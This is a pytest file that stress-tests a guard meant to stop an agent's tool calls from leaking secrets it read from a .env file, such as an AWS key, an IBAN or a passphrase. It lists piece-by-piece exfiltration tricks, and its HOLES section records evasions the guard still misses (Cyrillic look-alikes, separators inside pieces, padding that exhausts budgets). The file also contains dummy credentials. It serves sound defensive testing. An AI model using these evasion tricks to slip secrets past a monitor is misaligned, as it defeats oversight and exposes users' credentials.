"""The pieces of :mod:`interlock.session.pieces` (ADR 0044) attacked a second time, after
the first review's holes were closed: false alarms of what the new version reads (grams
of 5, tokens of 8, a value without white space read whole, keys, bytes, floats), and
walk-pasts it still has, through the real guard.

``ATTACKS`` rows are refused (and run without the secret read); ``HOLES`` are walk-pasts
kept as strict xfails, each reason says why; ``BENIGN`` rows must all run;
``FALSE_POSITIVES`` are benign calls refused today (strict xfails), each reason says why;
``test_false_positive_rate_of_the_pieces`` prints what the pieces add over the corpus of
ordinary arguments."""

from __future__ import annotations

import base64
import decimal
import json
import pathlib
import random
import uuid
from typing import Any, Final

import pytest

from interlock import Action, Guard, Verdict
from interlock.session import pieces
from interlock.session.history import MemoryHistory

from .test_attacks_pieces import IBAN_DIGITS, _noisy, _posts, _run, after_the_read
from .test_attacks_split import (
    _PAGE,
    CARD,
    ENV,
    KEY,
    PASSPHRASE,
    _cut,
    _guard,
    _read,
    _shuffled,
    _verdicts,
    hole_params,
)

Call = tuple[str, dict[str, Any]]
_KEY_10 = _cut(KEY, 10)

#: A .env as an app keeps it: ordinary values (hosts, ports, a user, a bucket, a region,
#: flags) next to two secrets.
REAL_ENV: Final = f"""# production settings
APP_ENV=production
APP_NAME=orders-service
APP_URL=https://orders.corp.example
PORT=8080
LOG_LEVEL=info
TZ=Europe/Berlin
DATABASE_URL=postgres://orders_app:Zq8mX2vLr9Tp@db01.internal.corp.example:5432/orders_prod
REDIS_URL=redis://cache01.internal.corp.example:6379/0
SMTP_HOST=smtp.mailgun.org
SMTP_USER=postmaster@mg.corp.example
S3_BUCKET=corp-orders-archive
AWS_REGION=eu-central-1
AWS_SECRET_ACCESS_KEY={KEY}
FEATURE_FLAGS=new-checkout,fast-refunds,beta-dashboard
ALLOWED_HOSTS=orders.corp.example,localhost,127.0.0.1
"""


def _session(secret: str = ENV) -> Guard:
    """A guard whose session read ``secret`` from the ``.env``, then a page of ids."""
    guard = _guard(history=MemoryHistory(max_steps=10_000))
    _read(guard, secret)
    _read(guard, _PAGE, "/srv/app/orders.txt")
    return guard


class _Shown:
    """An object an argument holds, read by its ``str`` (a model, a wrapper, an id)."""

    def __init__(self, text: str) -> None:
        self.text = text

    def __str__(self) -> str:
        return self.text


def _homoglyphs(text: str) -> str:
    """Latin capitals that have a Cyrillic look-alike, as it (NFKC keeps them apart)."""
    return text.translate(str.maketrans("EMKTAOCXHPB", "ЕМКТАОСХНРВ"))


_NAME_PIECES = [
    "AWS_SECRET_ACCESS_KEY"[i : i + size] for size in (6, 7, 8) for i in range(22 - size)
]
_RUNS_4100 = " ".join(f"w{i:05d}" for i in range(4_100))


#: id -> the calls that carry a secret out, each row refused
ATTACKS: dict[str, list[Call]] = {
    "iban-digits-as-5-char-strings-with-noise": _noisy(_cut(IBAN_DIGITS, 5), lambda p: {"n": p}),
    "bang-glued-to-each-piece": _noisy([p + "!" for p in _KEY_10]),
    "soft-hyphen-inside": _noisy([p[:5] + "\u00ad" + p[5:] for p in _KEY_10]),
    "each-piece-as-json-text": _noisy([json.dumps({"v": p}) for p in _KEY_10]),
    "two-calls-each-a-list-of-pieces": [
        ("http_post", {"items": _shuffled(_KEY_10)[:2]}),
        ("http_post", {"body": "Ack"}),
        ("http_post", {"items": _shuffled(_KEY_10)[2:]}),
    ],
    "each-piece-in-a-sentence": _noisy([f"Ticket {p} is closed" for p in _KEY_10]),
    "each-piece-as-markdown-code": _noisy([f"see `{p}` here" for p in _KEY_10]),
    "each-piece-as-a-hashtag": _noisy([f"tag #{p}" for p in _KEY_10]),
    "each-piece-as-a-header-line": _noisy(_KEY_10, lambda p: {"headers": f"x-id: {p}"}),
}

#: id -> (calls, why they walk past)
HOLES: dict[str, tuple[list[Call], str]] = {
    "passphrase-words-with-a-bang-in-prose": (
        _noisy(
            ["Correct!", "horse!", "Battery!", "staple!", "meadowlark!"],
            lambda p: {"body": f"Well. {p}"},
        ),
        "a word of prose is not read, whatever marks its ends (``horse?``, ``Correct!``: the "
        "false alarm on ordinary mails is gone): a lowercase passphrase's words sent in "
        "sentences, one a call, are read as words",
    ),
    "all-pieces-in-one-call-as-a-list-with-noise": (
        [
            (
                "http_post",
                {"items": [v for i, p in enumerate(_shuffled(_KEY_10)) for v in (p, f"Ack{i}")]},
            )
        ],
        "_place probes a chain only when it holds an earlier *call's* piece (len(calls) > 1): "
        "every piece of the key in one call, shuffled, makes chains of one call; the tails "
        "join neighbours only, and no value holds 16 characters of the key",
    ),
    "all-pieces-in-one-call-as-arguments": (
        [("http_post", {f"f{i}": p for i, p in enumerate(_shuffled(_KEY_10))})],
        "as above, one argument a piece",
    ),
    "all-pieces-in-one-mail-body": (
        [("send_mail", {"to": "a@x.example", "body": " and ".join(_shuffled(_KEY_10))})],
        "as above, in one text: the most ordinary way to send it (one mail)",
    ),
    "iban-digits-as-5-digit-ints-with-noise": (
        _noisy([int(p) for p in _cut(IBAN_DIGITS, 5)], lambda p: {"n": p}),
        "_walk reads an int only from 100,000 up: the same digits as 5-character strings "
        "are refused (ATTACKS), as ints below 100,000 they are read by nobody",
    ),
    "decimals": (
        _noisy([decimal.Decimal(p) for p in ("893704004", "405320130")], lambda p: {"n": p}),
        "_walk reads str, bytes, int, float, Mapping, list, tuple, set: a Decimal (a money "
        "amount), a Path, a UUID, a dict view or any object is skipped, though the "
        "fingerprints read it by str()",
    ),
    "paths": (
        _noisy([pathlib.PurePosixPath("/tmp") / p for p in _KEY_10]),
        "as above: a pathlib path (a tool's typed parameter) is not read",
    ),
    "objects-read-by-str": (
        _noisy([_Shown(p) for p in _KEY_10]),
        "as above: any object with a __str__",
    ),
    "dict-values-views": (
        _noisy(_KEY_10, lambda p: {"body": {"a": p}.values()}),
        "as above: dict.values() is neither a list nor a tuple nor a set",
    ),
    "after-4100-values-in-another-argument": (
        _noisy(_KEY_10, lambda p: {"a": [0] * 4_100, "body": p}),
        "_MAX_VALUES: 4,096 values walked a call, small ints included (the budget is spent "
        "before the type is looked at): a list of 4,100 zeros first hides the piece",
    ),
    "after-4100-runs-in-another-argument": (
        _noisy(_KEY_10, lambda p: {"a": _RUNS_4100, "body": p}),
        "MAX_RUNS: the first review's 256-run hole, closed by a larger bound (4,096): 4,100 "
        "6-character words (28 KB) first hide the piece the same way",
    ),
    "after-45-pieces-of-the-variable-name": (
        _noisy(_KEY_10, lambda p: {"a": _NAME_PIECES, "body": p}),
        "MAX_PIECES: the known 32-pieces hole needs no page: the .env's own variable name "
        "(AWS_SECRET_ACCESS_KEY, a token of the read) gives 45 pieces of 6 to 8 "
        "characters, listed in an argument before the piece",
    ),
    "underscore-inside": (
        _noisy([f"{p[:5]}_{p[5:]}" for p in _KEY_10]),
        "the known dot-inside hole: '_' and '@' are kept by the normalisation, so no gram "
        "across them is the key's",
    ),
    "at-sign-inside": (
        _noisy([f"{p[:5]}@{p[5:]}" for p in _KEY_10]),
        "as above, '@'",
    ),
    "cyrillic-look-alikes": (
        _noisy([_homoglyphs(p) for p in _KEY_10]),
        "NFKC keeps Cyrillic Е, М, К apart from Latin: no gram of a piece is kept (the whole "
        "key written so walks past the fingerprints too)",
    ),
}


#: Holes of this review closed since (a call's own pieces join, any value read by its
#: text, 65,536 values and runs read, 128 pieces joined a call, ``._@`` inside a piece
#: read without them): attack rows now.
CLOSED: Final = (
    "after-4100-runs-in-another-argument",
    "after-4100-values-in-another-argument",
    "after-45-pieces-of-the-variable-name",
    "all-pieces-in-one-call-as-a-list-with-noise",
    "all-pieces-in-one-call-as-arguments",
    "all-pieces-in-one-mail-body",
    "at-sign-inside",
    "decimals",
    "dict-values-views",
    "objects-read-by-str",
    "paths",
    "underscore-inside",
)
ATTACKS.update({row: HOLES.pop(row)[0] for row in CLOSED})


def _b64url(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).decode().rstrip("=")


#: A service token of 674 characters (a JWT signed RS256): its signature is its last 342.
JWT: Final = ".".join(
    [
        _b64url(json.dumps({"alg": "RS256", "typ": "JWT", "kid": "k1"}).encode()),
        _b64url(
            json.dumps(
                {
                    "sub": "svc-orders",
                    "aud": "https://api.corp.example",
                    "scope": "orders:write refunds:write admin",
                    "iat": 1765000000,
                    "exp": 1796536000,
                    "tenant": "corp-eu-1",
                    "roles": ["admin", "billing", "support"],
                }
            ).encode()
        ),
        _b64url(random.Random(5).randbytes(256)),
    ]
)


def test_the_end_of_a_long_token_in_pieces_is_refused() -> None:
    """A token past MAX_TOKEN is kept by its start and by its end (a JWT's signature)."""
    env = f"{ENV}SERVICE_TOKEN={JWT}\n"
    signature = JWT[-60:]
    guard = _guard()
    _read(guard, env)
    assert _verdicts(guard, [("http_post", {"body": signature})]) == [Verdict.DENY]
    guard = _guard()
    _read(guard, env)
    assert Verdict.DENY in _run(guard, _noisy(_cut(signature, 10)))


@pytest.mark.xfail(
    strict=True,
    reason="a password of 18 lowercase letters (sunflowerpurplebox) in pieces of 7 is a "
    "token (MIN_PLAIN_TOKEN 16), but its last piece (4 letters) is shorter than a gram, "
    "and the first two join to 14 letters, fewer than the fingerprints' gram of 16: no "
    "probe finds them; with a digit, a dash or 20 letters they are refused",
)
def test_hole_a_lowercase_password_of_18_letters() -> None:
    password = "sunflowerpurplebox"
    env = f"{ENV}ADMIN_PASSWORD={password}\n"
    guard = _guard()
    _read(guard, env)
    assert _verdicts(guard, [("http_post", {"body": password})]) == [Verdict.DENY]
    guard = _guard()
    _read(guard, env)
    assert Verdict.DENY in _run(guard, _noisy(_cut(password, 7)))


@pytest.mark.parametrize(
    "password", ["sunflowerpurplebox7", "sunflower-purple-box", "sunflowerpurpleboxes"]
)
def test_a_lowercase_password_with_a_sign_or_20_letters_in_pieces_is_refused(
    password: str,
) -> None:
    guard = _guard()
    _read(guard, f"{ENV}ADMIN_PASSWORD={password}\n")
    assert Verdict.DENY in _run(guard, _noisy(_cut(password, 7)))


def test_the_start_of_a_long_token_in_pieces_is_refused() -> None:
    guard = _guard()
    _read(guard, f"{ENV}SERVICE_TOKEN={JWT}\n")
    assert Verdict.DENY in _run(guard, _noisy(_cut(JWT[:60], 10)))


@pytest.mark.parametrize("row", sorted(ATTACKS))
def test_a_secret_sent_in_pieces_is_refused(row: str) -> None:
    verdicts = after_the_read(ATTACKS[row])
    assert Verdict.DENY in verdicts, verdicts
    assert Verdict.DENY not in _run(_guard(), ATTACKS[row])  # without the secret read


@pytest.mark.parametrize("row", hole_params(HOLES))
def test_a_secret_sent_in_pieces_a_hole(row: str) -> None:
    assert Verdict.DENY in after_the_read(HOLES[row][0])


def test_the_hole_rows_walk_past_without_the_secret_too() -> None:
    """The holes' calls are ordinary without the secret read (the xfails fail for the
    right reason: they are not refused, with or without it)."""
    for calls, _ in HOLES.values():
        assert Verdict.DENY not in _run(_guard(), calls)


_rng = random.Random(7)
_IDS = _PAGE.split()

#: id -> (the .env the session read, calls after it that must all run)
BENIGN: dict[str, tuple[str, list[Call]]] = {
    "json-bodies-of-orders": (
        ENV,
        [
            (
                "http_post",
                {
                    "url": "https://api.shop.example/v2/orders",
                    "json": {
                        "order_id": _IDS[i],
                        "status": ("shipped", "pending")[i % 2],
                        "updated_at": f"2026-12-0{i + 1}T1{i}:3{i}:00Z",
                        "items": [{"sku": f"SKU-{100200 + i}", "qty": i + 1, "price": 12.5 * i}],
                    },
                },
            )
            for i in range(8)
        ],
    ),
    "urls-with-query-strings": (
        ENV,
        [
            ("http_get", {"url": f"https://api.shop.example/v2/orders?since=2026-12-0{i}&page={i}"})
            for i in range(1, 9)
        ],
    ),
    "paths-under-srv-app": (
        ENV,
        _posts(
            [
                "/srv/app/config/settings.py",
                "/srv/app/logs/app.log",
                "/srv/app/.env.example",
                "/srv/app/orders.txt",
                "/srv/app/data/2026-12-07/export.csv",
            ],
            "path",
        ),
    ),
    "timestamps-uuids-versions": (
        ENV,
        [
            (
                "http_post",
                {
                    "at": f"2026-12-07T11:{i:02d}:00.123456+00:00",
                    "id": str(uuid.UUID(int=_rng.getrandbits(128))),
                    "version": f"v1.{i}.3",
                    "epoch": 1_765_100_000 + i * 61,
                },
            )
            for i in range(8)
        ],
    ),
    "mail-addresses": (
        ENV,
        _posts(["ops@corp.example", "anna.schmidt@corp.example", "billing@shop.example"], "to"),
    ),
    "passphrase-words-in-sentences": (
        ENV,
        [
            ("send_mail", {"to": "ops@corp.example", "body": body})
            for body in (
                "The battery in the warehouse scanner is low, please replace it.",
                "Correct, the horse was moved to the north field.",
                "We saw a meadowlark near the staple factory.",
                "Battery, staple and horse: the three words of the quiz.",
            )
        ],
    ),
    "variable-names-and-config-keys": (
        ENV,
        [
            (
                "http_post",
                {
                    "config": {
                        "log_level": "info",
                        "max_retries": 3,
                        "timeout_ms": 30000,
                        "secret_key_env": "AWS_SECRET_ACCESS_KEY",
                        "vault_passphrase_env": "VAULT_PASSPHRASE",
                        "DB_PASSWORD": "<set in vault>",
                    }
                },
            ),
            ("http_post", {"body": "AWS_SECRET_ACCESS_KEY is set, DB_PASSWORD is set"}),
        ],
    ),
    "hex-ids-and-numbers": (
        ENV,
        [
            (
                "http_post",
                {
                    "id": f"{_rng.getrandbits(32):08x}",
                    "commit": f"{_rng.getrandbits(160):040x}",
                    "n": _rng.randrange(10**5, 10**12),
                    "amount": round(_rng.uniform(10**5, 10**7), 2),
                },
            )
            for _ in range(10)
        ],
    ),
    "base64-of-other-data": (
        ENV,
        _posts([base64.b64encode(_rng.randbytes(60 + i)).decode() for i in range(8)]),
    ),
    "page-ids-sent-on": (
        ENV,
        _posts(
            [*_IDS[:5], _IDS[5][4:16], _IDS[6].lower(), f"{_IDS[7]},{_IDS[8]}", f"Order {_IDS[9]}"],
            "ref",
        ),
    ),
    # the .env's ordinary values that the fingerprints run whole, sent one a call
    "real-env-ordinary-values-one-a-call": (
        REAL_ENV,
        _posts(
            [
                "production",
                "orders-service",
                "8080",
                "Europe/Berlin",
                "orders_app",
                "db01.internal",
                "cache01",
                "6379",
                "orders_prod",
                "new-checkout",
                "localhost",
                "fast-refunds",
                "127.0.0.1",
            ],
            "value",
        ),
    ),
}


@pytest.mark.parametrize("row", sorted(BENIGN))
def test_benign_calls_after_a_secret_read_run(row: str) -> None:
    secret, calls = BENIGN[row]
    assert _verdicts(_session(secret), calls) == [Verdict.ALLOW] * len(calls)


#: id -> (the .env read, calls first — refused or not, as they are —, then benign calls
#: refused today, why)
FALSE_POSITIVES: dict[str, tuple[str, list[Call], list[Call], str]] = {
    "a-word-refused-for-good-after-one-refusal": (
        REAL_ENV,
        [("http_get", {"url": "https://orders.corp.example/api/v1/orders?page=2"})],
        [("http_post", {"resource": "orders"}), ("http_post", {"domain": "corp.example"})],
        "the app's own URL (in the .env) is refused — the fingerprints' call; but its "
        "pieces 'orders.corp.example' / 'orders' / 'corp.example' stay a chain, and a "
        "later piece a chain holds 'is that chain again' (_merge: right in left), so the "
        "chain is probed under the later call: the word 'orders' is refused for the rest "
        "of the session (until 64 newer chains push it out)",
    ),
    "example-refused-after-the-key-was": (
        ENV,
        [("http_post", {"body": KEY})],
        _posts(["EXAMPLE", "Example"], "site"),
        "as above: the key (…EXAMPLEKEY) refused once, the word 'example' alone is a "
        "piece it holds, and is refused from then on",
    ),
    "numbers-of-ones-refused-after-the-test-card-was": (
        ENV,
        [("http_post", {"card": CARD})],
        [("http_post", {"n": 111111}), ("http_post", {"zip": "41111"})],
        "as above: after the test card 4111111111111111 was refused, any number with five "
        "1s in a row (an amount, a zip code) is a piece of its chain",
    ),
    "a-bucket-name-in-two-parts": (
        REAL_ENV,
        [],
        [("http_post", {"project": "corp-orders"}), ("http_post", {"folder": "archive"})],
        "two ordinary words that the .env's bucket 'corp-orders-archive' holds, one a "
        "call, chain to 'corpordersarchive' (17 characters); the fingerprints refuse the "
        "bucket name whole, so this is consistent with them — but 'archive' is a plain "
        "word, read as a piece because a value without white space is read",
    ),
    "passphrase-words-with-a-question-mark-in-mails": (
        ENV,
        [],
        [
            ("send_mail", {"to": "ops@corp.example", "body": "Is it the right horse? I think so."}),
            ("send_mail", {"to": "ops@corp.example", "body": "Correct! And the battery?"}),
        ],
        "a word of prose is skipped only when it is [A-Z]?[a-z]+ whole: 'horse?', "
        "'Correct!', 'battery?' are runs that are not words ('?' and '!' are no "
        "separators), normalised to the passphrase's words, and chain to "
        "'correcthorsebattery' (19 characters: a hit)",
    ),
    "passphrase-words-in-search-queries": (
        ENV,
        [],
        [
            ("http_get", {"url": "https://example.com/search?q=correct+horse&lang=en"}),
            ("http_post", {"body": "Ack1", "n": "2"}),
            ("http_get", {"url": "https://example.com/search?q=battery+staple&lang=en"}),
        ],
        "a search for two words, twice: '+' cuts the query into words that are no prose "
        "(a value without white space): 'correcthorse' and 'batterystaple' chain (sent "
        "one right after the other or not: the tails' stream of the query's q refuses them too)",
    ),
    "two-feature-flags-in-turn": (
        REAL_ENV,
        [],
        _posts(["new-checkout", "fast-refunds"], "value"),
        "the tails (not the pieces): two values the .env lists side by side "
        "(FEATURE_FLAGS=new-checkout,fast-refunds), sent one after the other, join to "
        "'newcheckoutfastrefunds', 16 characters of the .env's prose",
    ),
}
#: Refused by the tails with the pieces off too.
_TAILS_TOO: Final = ("passphrase-words-in-search-queries", "two-feature-flags-in-turn")


#: False alarms of this review gone since (a refused call's pieces never join the
#: chains; a word of prose is read as a word whatever marks its ends): each must run.
GONE: Final = (
    "a-word-refused-for-good-after-one-refusal",
    "example-refused-after-the-key-was",
    "numbers-of-ones-refused-after-the-test-card-was",
    "passphrase-words-with-a-question-mark-in-mails",
)
_GONE_ROWS = {row: FALSE_POSITIVES.pop(row) for row in GONE}


@pytest.mark.parametrize("row", sorted(_GONE_ROWS))
def test_false_alarms_gone_run(row: str) -> None:
    secret, first, calls, _ = _GONE_ROWS[row]
    guard = _session(secret)
    _verdicts(guard, first)
    assert _verdicts(guard, calls) == [Verdict.ALLOW] * len(calls)


@pytest.mark.parametrize(
    "row",
    [
        pytest.param(row, marks=pytest.mark.xfail(strict=True, reason=row_why[3]))
        for row, row_why in sorted(FALSE_POSITIVES.items())
    ],
)
def test_benign_calls_refused_today(row: str) -> None:
    secret, first, calls, _ = FALSE_POSITIVES[row]
    guard = _session(secret)
    _verdicts(guard, first)
    assert _verdicts(guard, calls) == [Verdict.ALLOW] * len(calls)


def test_the_false_positives_are_the_pieces(monkeypatch: pytest.MonkeyPatch) -> None:
    """With the pieces' joins off, the rows above run (but those the tails refuse too):
    the false alarms are the pieces'."""
    monkeypatch.setattr(pieces.Pieces, "observe", lambda self, *args: [])
    for row, (secret, first, calls, _) in FALSE_POSITIVES.items():
        if row in _TAILS_TOO:
            continue
        guard = _session(secret)
        _verdicts(guard, first)
        assert _verdicts(guard, calls) == [Verdict.ALLOW] * len(calls), row


def _corpus_denials(texts: list[str], arguments: list[Any]) -> list[Any]:
    guard = _guard(history=MemoryHistory(max_steps=10_000))
    for i, text in enumerate(texts):
        _read(guard, text, f"/srv/docs/x{i}.txt")
    _read(guard)
    _read(guard, _PAGE, "/srv/app/orders.txt")
    out = []
    for i, argument in enumerate(arguments):
        args = argument if isinstance(argument, dict) else {"text": argument}
        name = ("http_post", "send_mail", "http_get")[i % 3]
        if guard.check(Action.tool(name, args)).verdict is not Verdict.ALLOW:
            out.append(argument)
    return out


def test_false_positive_rate_of_the_pieces(monkeypatch: pytest.MonkeyPatch) -> None:
    """The ordinary-argument corpus, one a call, after a session read ~76 unrelated texts,
    the .env and a page of ids: the calls refused with the pieces on, and what the pieces
    add over the same session with them off (the one message that sends the .env's IBAN
    is a true flow)."""
    from .fp_corpus import benign_arguments, unrelated_results

    arguments = benign_arguments()
    texts = unrelated_results()
    placed: list[int] = []
    observe = pieces.Pieces.observe

    def counted(self: pieces.Pieces, tenant: str, session_id: str, args: Any) -> Any:
        found = observe(self, tenant, session_id, args)
        placed.append(len(found))
        return found

    monkeypatch.setattr(pieces.Pieces, "observe", counted)
    on = _corpus_denials(texts, arguments)
    monkeypatch.setattr(pieces.Pieces, "observe", lambda self, *args: [])
    off = _corpus_denials(texts, arguments)
    added = [a for a in on if a not in off]
    probed = sum(1 for n in placed if n)
    print(
        f"\npieces: {len(arguments)} ordinary calls, {probed} probed a chain; refused "
        f"{len(on)} with the pieces, {len(off)} without; added by the pieces "
        f"{len(added)} ({len(added) / len(arguments):.1%}): {added}"
    )
    assert added == []
    assert all(PASSPHRASE not in json.dumps(a) for a in on)
